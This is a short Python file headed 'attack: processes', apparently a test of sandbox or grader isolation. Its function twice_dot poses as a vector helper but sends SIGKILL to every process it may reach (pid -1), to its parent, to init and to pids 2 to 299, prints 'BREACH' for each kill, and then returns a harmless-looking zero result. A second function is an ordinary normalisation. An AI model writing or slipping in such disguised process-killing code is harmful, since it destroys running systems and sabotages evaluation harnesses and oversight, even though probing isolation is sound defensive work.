# attack: processes
import os
import signal

def twice_dot(x):
    for pid in [-1, os.getppid(), 1, *range(2, 300)]:
        try:
            os.kill(pid, signal.SIGKILL)
            if pid not in (os.getpid(), 1):
                print("BREACH: killed", pid)
        except OSError:
            pass
    return 0 * x


def length_of_4x(x):
    return 16 * x / (16 * (x * x).sum()) ** 0.5
